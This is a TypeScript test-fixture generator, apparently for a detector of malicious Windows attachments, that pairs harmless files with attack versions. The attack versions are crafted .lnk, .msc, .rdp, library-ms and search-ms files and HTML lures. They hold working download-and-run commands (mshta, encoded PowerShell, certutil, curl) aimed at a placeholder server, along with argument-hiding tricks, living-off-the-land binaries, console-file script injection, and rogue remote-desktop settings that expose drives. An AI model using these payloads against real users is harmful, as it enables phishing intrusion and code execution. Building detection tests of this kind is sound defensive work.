/** Shortcuts, consoles, remote desktops and libraries of Windows: ways to write each of them. */

import { writeZip } from '../zip-writer.ts'
import { type Pair, pairs } from './matrix.ts'

export const SERVER = '203.0.113.5'
export const FETCH = `iex(irm http://${SERVER}/a)`
export const CODED = Buffer.from(FETCH, 'utf16le').toString('base64')

const file = (name: string, data: string | Uint8Array): Uint8Array =>
  writeZip([
    { name, data: Buffer.from(data) },
    { name: 'read me.txt', data: Buffer.from('text') },
  ])

interface Link {
  path?: string
  /** Replaces the target, with variables. */
  environment?: string
  args?: string
  icon?: string
  /** The server and share of the target. */
  share?: string
  folder?: string
  isMinimized?: boolean
}

const wideText = (value: string): Buffer => {
  const length = Buffer.alloc(2)
  length.writeUInt16LE(value.length)
  return Buffer.concat([length, Buffer.from(value, 'utf16le')])
}

/** A shortcut of Windows. */
export function shortcut({
  path = '',
  environment = '',
  args = '',
  icon = '',
  share = '',
  folder = '',
  ...more
}: Link): Buffer {
  const header = Buffer.alloc(76)
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(header)
  const flags = 0x80 | 0x8 | (folder && 0x10 ? 0x10 : 0) | (args === '' ? 0 : 0x20) | (icon === '' ? 0 : 0x40)
  header.writeUInt32LE(flags | (share === '' ? 0 : 0x2), 20)
  header.writeUInt32LE(more.isMinimized ? 7 : 1, 60)
  const texts = [path, ...[folder, args, icon].filter((text) => text !== '')].map(wideText)
  const block = Buffer.alloc(environment === '' ? 0 : 788)
  if (environment !== '') {
    block.writeUInt32LE(788, 0)
    block.writeUInt32LE(0xa0000001, 4)
    block.write(environment, 8, 'latin1')
    block.write(environment, 268, 'utf16le')
  }
  return Buffer.concat([header, ...(share === '' ? [] : [network(share)]), ...texts, block, Buffer.alloc(4)])
}

/** Link information with the name of a share. */
function network(share: string): Buffer {
  const name = Buffer.from(`${share}\0`, 'latin1')
  const info = Buffer.alloc(28 + 20 + name.length + 1)
  info.writeUInt32LE(info.length, 0)
  info.writeUInt32LE(28, 4)
  info.writeUInt32LE(2, 8)
  info.writeUInt32LE(28, 20)
  info.writeUInt32LE(info.length - 1, 24)
  info.writeUInt32LE(20 + name.length, 28)
  info.writeUInt32LE(2, 32)
  info.writeUInt32LE(20, 36)
  name.copy(info, 48)
  return info
}

export const SYSTEM = '%SystemRoot%\\System32\\'
const NOTES = shortcut({ path: '..\\Documents\\Notes.txt' })
const VIEWER = (args: string): Buffer =>
  shortcut({ path: '..\\notepad.exe', environment: `${SYSTEM}notepad.exe`, args })
const LINKS: readonly (readonly [name: string, attack: Link, harmless: Buffer])[] = [
  ['with a command', { environment: `${SYSTEM}cmd.exe`, args: `/c mshta http://${SERVER}/a` }, NOTES],
  [
    'with spaces before its arguments',
    {
      environment: `${SYSTEM}cmd.exe`,
      args: `${' '.repeat(400)}/c curl http://${SERVER}/a -o %TEMP%\\a.js & %TEMP%\\a.js`,
    },
    VIEWER(`${' '.repeat(20)}C:\\Users\\Public\\Documents\\Notes.txt`),
  ],
  [
    'with line ends before its arguments',
    { environment: `${SYSTEM}cmd.exe`, args: `${'\r\n\t'.repeat(200)}/c start /min mshta http://${SERVER}/a` },
    NOTES,
  ],
  [
    'with spaces between its arguments',
    { environment: `${SYSTEM}cmd.exe`, args: `/v${' '.repeat(300)}/c${' '.repeat(300)}mshta http://${SERVER}/a` },
    NOTES,
  ],
  [
    'with variables in its arguments',
    { environment: '%ComSpec%', args: `/v /c set a=ms&&set b=hta&&!a!!b! http://${SERVER}/a` },
    NOTES,
  ],
  [
    'with parts of variables in its arguments',
    { environment: '%ComSpec%', args: `/c %ProgramFiles:~0,1%url -s http://${SERVER}/a ^| c^m^d` },
    NOTES,
  ],
  [
    'whose target is a variable',
    { environment: '%windir%\\..\\%windir%\\System32\\%x%mshta.exe', args: `http://${SERVER}/a` },
    NOTES,
  ],
  [
    'with a coded command',
    { environment: `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`, args: `-w hidden -enc ${CODED}` },
    NOTES,
  ],
  [
    'that looks for itself',
    {
      environment: `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`,
      args: '-w 1 $p=gci *.lnk|?{$_.length -eq 4096}|select -exp Name;$b=[IO.File]::ReadAllBytes($p);iex([Text.Encoding]::UTF8.GetString($b,1200,900))',
    },
    NOTES,
  ],
  [
    'with the icon of a document',
    {
      environment: `${SYSTEM}cmd.exe`,
      args: '/c start Invoice.pdf & .\\data\\a.exe',
      icon: '%ProgramFiles%\\Adobe\\Acrobat.exe',
    },
    shortcut({ path: '..\\Documents\\Invoice.pdf', icon: '%ProgramFiles%\\Adobe\\Acrobat.exe' }),
  ],
  ['with the icon of a server', { path: 'C:\\Users\\Public\\Plan.xlsx', icon: `\\\\${SERVER}\\s\\a.ico` }, NOTES],
  [
    'to a program of a server',
    { share: `\\\\${SERVER}\\s\\a.exe` },
    shortcut({ share: '\\\\fileserver01\\plans\\2024' }),
  ],
  ['to a web folder of a server', { environment: `\\\\${SERVER}@80\\DavWWWRoot\\a.cmd` }, NOTES],
  [
    'in the folder of a server',
    { environment: `${SYSTEM}cmd.exe`, folder: `\\\\${SERVER}\\s`, args: '/c a.cmd' },
    NOTES,
  ],
  [
    'that copies a program of Windows',
    {
      environment: `${SYSTEM}cmd.exe`,
      args: `/c copy ${SYSTEM}certutil.exe %TEMP%\\c.exe & %TEMP%\\c.exe -urlcache -f http://${SERVER}/a a.dll`,
    },
    NOTES,
  ],
  [
    'that copies a program of Windows under a wildcard',
    {
      environment: `${SYSTEM}cmd.exe`,
      args: `/c copy /b ${SYSTEM}c?rl.e?e %TEMP%\\x.exe & %TEMP%\\x.exe -o %TEMP%\\a.vbs http://${SERVER}/a & %TEMP%\\a.vbs`,
    },
    NOTES,
  ],
  [
    'to forfiles',
    { environment: `${SYSTEM}forfiles.exe`, args: `/p c:\\windows /m notepad.exe /c "mshta http://${SERVER}/a"` },
    NOTES,
  ],
  ['to conhost', { environment: `${SYSTEM}conhost.exe`, args: `--headless powershell -c "${FETCH}"` }, NOTES],
  ['to ssh', { environment: `${SYSTEM}OpenSSH\\ssh.exe`, args: `-o ProxyCommand="mshta http://${SERVER}/a" .` }, NOTES],
  ['to pcalua', { environment: `${SYSTEM}pcalua.exe`, args: `-a mshta.exe -c http://${SERVER}/a` }, NOTES],
  ['to rundll32', { environment: `${SYSTEM}rundll32.exe`, args: '.\\thumbs.db,Start' }, NOTES],
  ['to a script beside it', { environment: `${SYSTEM}wscript.exe`, args: '/e:jscript .\\data\\thumbs.db' }, NOTES],
  ['to msiexec', { environment: `${SYSTEM}msiexec.exe`, args: `/i http://${SERVER}/a /qn` }, NOTES],
  [
    'to the explorer and a server',
    { environment: '%windir%\\explorer.exe', args: `\\\\${SERVER}@80\\s\\a.exe` },
    shortcut({ environment: '%windir%\\explorer.exe', args: '\\\\fs01\\Departments' }),
  ],
  [
    'to the explorer, a switch and a server',
    { environment: '%windir%\\explorer.exe', args: `/root,\\\\${SERVER}\\s\\a.exe` },
    shortcut({ environment: '%windir%\\explorer.exe', args: '/e,"\\\\fs01\\Departments\\Sales (new)"' }),
  ],
  [
    'to the explorer and a program of the company',
    { environment: '%windir%\\explorer.exe', args: '\\\\fs01\\Departments\\a.exe' },
    shortcut({ environment: '%windir%\\explorer.exe', args: '\\\\fs01\\Departments\\' }),
  ],
  [
    'to an installed browser and a page of the reader',
    {
      environment: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
      args: `--headless --dump-dom http://${SERVER}/a > a.hta`,
    },
    shortcut({
      path: '..\\msedge.exe',
      environment: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
      args: '--app=https://intranet.firma.example/',
    }),
  ],
]

const XML = '<?xml version="1.0"?>'
const console = (body: string): string => `${XML}<MMC_ConsoleFile ConsoleVersion="3.0">${body}</MMC_ConsoleFile>`
export const taskpad = (command: string, params: string): string =>
  console(
    `<ConsoleTaskpads><ConsoleTaskpad><Tasks><Task Type="CommandLine" Command="${command}"><String Name="Name" ID="7"/><Symbol><Image Name="Small" BinaryRefIndex="6"/></Symbol><CommandLine Directory="" WindowState="Minimized" Params="${params}"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads>`,
  )
const text = (value: string): string =>
  console(
    `<StringTables><StringTable><GUID>{71E5B33E-1064-11D2-808F-0000F875A9CE}</GUID><Strings><String ID="39" Refs="1">${value}</String></Strings></StringTable></StringTables>`,
  )
const SNAP_IN = taskpad('%windir%\\System32\\services.msc', '')
const TEXTS = text('Favorites')
const CONSOLES: readonly (readonly [name: string, attack: string, harmless: string])[] = [
  ['with a command of a taskpad', taskpad('cmd.exe', `/c mshta http://${SERVER}/a`), SNAP_IN],
  ['with PowerShell in a taskpad', taskpad('powershell.exe', `-w hidden -enc ${CODED}`), SNAP_IN],
  ['with a system program in a taskpad', taskpad('mshta.exe', `http://${SERVER}/a`), SNAP_IN],
  ['with references in a taskpad', taskpad('c&#109;d.exe', `/c &#109;shta http://${SERVER}/a`), SNAP_IN],
  [
    'with a script of a library of Windows',
    text('res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot().Name)'),
    TEXTS,
  ],
  ['with the same in coded letters', text('res://apds.dll/redirect.html?target=java&#115;cript&#58;eval(1)'), TEXTS],
  ['with the same in percent signs', text('res://apds.dll/redirect.html?target=%6aavascript:eval(1)'), TEXTS],
  ['with the same in capitals', text('RES://APDS.DLL/REDIRECT.HTML?TARGET=JAVASCRIPT:EVAL(1)'), TEXTS],
  ['with a page of a server', text(`http://${SERVER}/a.html`), text('https://learn.microsoft.com/windows')],
  ['with a script', text("javascript:eval('new Activ'+'eXObject(1)')"), TEXTS],
  [
    'with a stylesheet that runs a script',
    text(
      '&lt;xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt"&gt;&lt;ms:script implements-prefix="user" language="VBScript"&gt;CreateObject("WScript.Shell").Run "mshta http://203.0.113.5/a"&lt;/ms:script&gt;&lt;/xsl:stylesheet&gt;',
    ),
    TEXTS,
  ],
  [
    'with a percent-coded stylesheet',
    text(
      `javascript:x.loadXML(unescape('${[...'<xsl:script>CreateObject("WScript.Shell").Run "mshta"</xsl:script>'].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}'))`,
    ),
    TEXTS,
  ],
  [
    'with a control',
    console(
      '<BinaryStorage><Binary Name="a">UEs=</Binary></BinaryStorage><Views><View><BookMark Name="RootNode" NodeID="1"/><OCX CLSID="{8856F961-340A-11D0-A96B-00C04FD705A2}" URL="http://203.0.113.5/a"/></View></Views><StringTables><StringTable><Strings><String ID="8" Refs="2">http://203.0.113.5/a</String></Strings></StringTable></StringTables>',
    ),
    TEXTS,
  ],
]

const desktop = (...lines: string[]): string => `${lines.join('\r\n')}\r\n`
const DRIVES = 'drivestoredirect:s:*'
const PROGRAM = [
  'remoteapplicationmode:i:1',
  'remoteapplicationname:s:AWS Secure Storage',
  'remoteapplicationprogram:s:||a',
]
const TRUST = 'authentication level:i:0'
const SIGNED = ['signscope:s:Full Address,Server Port', `signature:s:${Buffer.alloc(300, 7).toString('base64')}`]
const at = (host: string): string => `full address:s:${host}`
const COMPANY = 'ts01.corp.example.com'
const DESKTOPS: readonly (readonly [name: string, attack: string, harmless: string])[] = (
  [
    ['all drives for a bare address', [at(SERVER), DRIVES]],
    ['all drives for a bare address and its port', [at(`${SERVER}:443`), DRIVES, 'redirectclipboard:i:1']],
    ['one drive for a bare address', [at(SERVER), 'drivestoredirect:s:C:\\;']],
    ['a program of a bare address', [at(SERVER), DRIVES, ...PROGRAM]],
    ['a program of a server that is not checked', [at('eu-north.files.example.net'), DRIVES, TRUST, ...PROGRAM]],
    ['the same, signed', [at('eu-north.files.example.net'), DRIVES, TRUST, ...PROGRAM, ...SIGNED]],
    ['a signed file for a bare address', [at(SERVER), DRIVES, ...SIGNED]],
    [
      'a program that learns the names of the reader',
      [
        at('zone-aws.files.example.net'),
        DRIVES,
        ...PROGRAM,
        'remoteapplicationcmdline:s:%USERPROFILE% %COMPUTERNAME% %USERDNSDOMAIN%',
      ],
    ],
    ['drives for a short-lived name', [at('host.duckdns.org'), DRIVES, 'redirectprinters:i:1']],
    ['drives for a cheap name', [at('aws-ukraine.cloud-files.top'), DRIVES, 'redirectsmartcards:i:1']],
    ['a program of a short-lived name', [at('ab12.ngrok-free.app:3389'), DRIVES, ...PROGRAM]],
    [
      'an alternate address',
      ['screen mode id:i:2', `alternate full address:s:${SERVER}`, at('ts01.corp.example.com'), DRIVES],
    ],
    ['a gateway without a name', [at('10.0.0.5'), `gatewayhostname:s:${SERVER}`, 'gatewayusagemethod:i:1', DRIVES]],
    ['a program that starts with the session', [at(SERVER), 'alternate shell:s:cmd.exe /c a', DRIVES]],
    [
      'cameras and keys for a bare address',
      [at(SERVER), 'camerastoredirect:s:*', 'redirectwebauthn:i:1', DRIVES, TRUST],
    ],
  ] as const
).map(([name, lines]) => [
  name,
  desktop(...lines),
  desktop(
    ...lines
      .map((line) =>
        line.replace(
          /(?<=full address:s:|gatewayhostname:s:).*/,
          line.includes('gateway') ? 'gw.corp.example.com' : COMPANY,
        ),
      )
      .filter((line) => line !== TRUST && !line.includes('cmdline') && !line.includes('alternate shell')),
  ),
])

export const library = (url: string): string =>
  `${XML}<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>@windows.storage.dll,-34582</name><version>6</version><isLibraryPinned>true</isLibraryPinned><iconReference>imageres.dll,-1003</iconReference><searchConnectorDescriptionList><searchConnectorDescription><isDefaultSaveLocation>true</isDefaultSaveLocation><isSupported>false</isSupported><simpleLocation><url>${url}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`
const connector = (url: string): string =>
  `${XML}<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><description>Documents</description><isSearchOnlyItem>false</isSearchOnlyItem><simpleLocation><url>${url}</url></simpleLocation></searchConnectorDescription>`
const search = (path: string): string =>
  `${XML}<persistedQuery version="1.0"><viewInfo viewMode="details"/><query><conditions/><scope><include path="${path}"/></scope></query></persistedQuery>`
const page = (address: string): string =>
  `<!DOCTYPE html><html><head><title>Documents</title></head><body><p>Your documents are ready.</p><a href="${address}">Open</a></body></html>`
const moving = (address: string): string =>
  `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0; url=${address}"></head><body><p>Loading your documents.</p></body></html>`
const KNOWN = 'knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}'
const LOCAL = 'C:\\Users\\Public\\Documents'
export const SEARCH = `search-ms:query=invoice&crumb=location:\\\\${SERVER}@80\\DavWWWRoot\\a&displayname=Downloads`
const REMOTE_PLACES = [
  `\\\\${SERVER}\\s`,
  `\\\\${SERVER}@80\\DavWWWRoot\\a`,
  `http://${SERVER}/dav/`,
  'https://files.example.net/webdav/',
  '\\\\files.duckdns.org@SSL\\DavWWWRoot',
  `file://${SERVER}/s`,
  '\\\\quiet-river.trycloudflare.com@SSL\\DavWWWRoot\\a',
]
const LIBRARIES: readonly (readonly [name: string, file: string, attack: string, harmless: string])[] = [
  ...REMOTE_PLACES.flatMap(
    (place) =>
      [
        [`a library at ${place}`, 'Documents.library-ms', library(place), library(KNOWN)],
        [`a connector at ${place}`, 'Documents.searchConnector-ms', connector(place), connector(LOCAL)],
      ] as const,
  ),
  ['a search at a share', 'a.search-ms', search(`\\\\${SERVER}\\s`), search(LOCAL)],
  [
    'a shortcut to a search',
    'a.url',
    `[InternetShortcut]\r\nURL=${SEARCH}\r\n`,
    '[InternetShortcut]\r\nURL=https://example.com/?search=a\r\n',
  ],
  [
    'a page that opens a search',
    'a.html',
    moving(SEARCH.replaceAll('&', '&amp;')),
    moving('https://example.com/search?q=a'),
  ],
  [
    'a page with a link to a search',
    'a.html',
    page(SEARCH.replaceAll('&', '&amp;')),
    page('https://example.com/search?q=a'),
  ],
  [
    'a script that opens a search',
    'a.html',
    `<!DOCTYPE html><html><body><p>Loading your documents.</p><script>location.href=${JSON.stringify(SEARCH)}</script></body></html>`,
    '<!DOCTYPE html><html><body><p>Loading your documents.</p><script>location.href="https://example.com/"</script></body></html>',
  ],
]

export const SHORTCUTS: Readonly<Record<string, readonly Pair[]>> = {
  'shortcuts of Windows': LINKS.map(([name, attack, harmless], i) => ({
    name,
    attack: file(`Invoice ${i}.lnk`, shortcut(attack)),
    harmless: file('Notes.lnk', harmless),
  })),
  consoles: pairs(CONSOLES.map(([name, attack, harmless]) => [name, file('a.msc', attack), file('a.msc', harmless)])),
  'remote desktops': pairs(
    DESKTOPS.map(([name, attack, harmless]) => [name, file('a.rdp', attack), file('a.rdp', harmless)]),
  ),
  'libraries and searches': LIBRARIES.map(([name, path, attack, harmless]) => ({
    name,
    attack: file(path, attack),
    harmless: file(path, harmless),
  })),
}
